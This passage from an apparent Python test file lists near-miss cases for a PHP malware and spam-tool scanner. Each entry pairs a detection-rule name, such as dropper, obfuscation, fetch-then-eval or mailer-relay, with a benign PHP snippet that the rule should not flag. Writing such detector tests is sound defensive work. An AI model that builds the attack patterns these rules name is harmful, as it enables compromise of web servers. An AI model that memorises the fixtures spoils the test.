            "<?php\n$cfg = file_get_contents($_POST['cfg_file']);\n$out = fopen(LOG_DIR . '/import.log', 'a');\nfwrite($out, strlen($cfg) . \" bytes\\n\");\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        embedded(
            "<?php\n$cfg = file_get_contents($_POST['cfg_file']);\n$out = fopen(LOG_DIR . '/import.log', 'a');\nfwrite($out, strlen($cfg) . \" bytes\\n\");\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_CharArraySinkName",
        plain(
            "<?php\n$vowels = implode('', array('a', 'e', 'i', 'o', 'u'));\n$abc = join(',', ['s', 'y', 's']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_CharArraySinkName",
        embedded(
            "<?php\n$vowels = implode('', array('a', 'e', 'i', 'o', 'u'));\n$abc = join(',', ['s', 'y', 's']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
        plain(
            "<?php\n$feed = file_get_contents($_GET['feed']);\n$xml = simplexml_load_string($feed);\nforeach ($xml->item as $it) { echo htmlspecialchars((string) $it->title); }\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
        embedded(
            "<?php\n$feed = file_get_contents($_GET['feed']);\n$xml = simplexml_load_string($feed);\nforeach ($xml->item as $it) { echo htmlspecialchars((string) $it->title); }\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_SinkDispatchTable",
        plain(
            "<?php\n$fmt = ['json' => 'json_encode', 'ser' => 'serialize', 'exp' => 'var_export'];\n$f = $_GET['f'] ?? 'json';\necho call_user_func($fmt[$f], $data);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_SinkDispatchTable",
        embedded(
            "<?php\n$fmt = ['json' => 'json_encode', 'ser' => 'serialize', 'exp' => 'var_export'];\n$f = $_GET['f'] ?? 'json';\necho call_user_func($fmt[$f], $data);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
        plain(
            "<?php\n$s = fsockopen('localhost', 25);\n$to = filter_var($_POST['to'], FILTER_VALIDATE_EMAIL);\nfwrite($s, \"MAIL FROM:<noreply@example.com>\\r\\nRCPT TO:<admin@example.com>\\r\\n\");\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
        embedded(
            "<?php\n$s = fsockopen('localhost', 25);\n$to = filter_var($_POST['to'], FILTER_VALIDATE_EMAIL);\nfwrite($s, \"MAIL FROM:<noreply@example.com>\\r\\nRCPT TO:<admin@example.com>\\r\\n\");\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
        plain(
            "<?php\n$n = (int) $_GET['n'];\nfor ($i = 0; $i < $n; $i++) { echo row($i); }\nmail('admin@example.com', 'report', 'rows: ' . $n);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
        embedded(
            "<?php\n$n = (int) $_GET['n'];\nfor ($i = 0; $i < $n; $i++) { echo row($i); }\nmail('admin@example.com', 'report', 'rows: ' . $n);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        plain(
            "<?php\n$ip = $_SERVER['HTTP_X_FORWARDED_FOR'] ?? $_SERVER['REMOTE_ADDR'];\n$cmd = 'logger -t app ' . escapeshellarg($ip);\nsystem($cmd);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        embedded(
            "<?php\n$ip = $_SERVER['HTTP_X_FORWARDED_FOR'] ?? $_SERVER['REMOTE_ADDR'];\n$cmd = 'logger -t app ' . escapeshellarg($ip);\nsystem($cmd);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        plain("<?php\n$rid = getenv('HTTP_X_REQUEST_ID');\n$log->info('request', ['id' => $rid]);\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        embedded("<?php\n$rid = getenv('HTTP_X_REQUEST_ID');\n$log->info('request', ['id' => $rid]);\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
        plain(
            "<?php\n$cfg = ['title' => trim($_POST['title'] ?? '')];\n$php = var_export($cfg, true);\nfile_put_contents($file, '<?php return ' . var_export($cfg, true) . ';');\n$loaded = include $file;\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
        embedded(
            "<?php\n$cfg = ['title' => trim($_POST['title'] ?? '')];\n$php = var_export($cfg, true);\nfile_put_contents($file, '<?php return ' . var_export($cfg, true) . ';');\n$loaded = include $file;\n"
        ),
        False,
    ),  # near miss
]
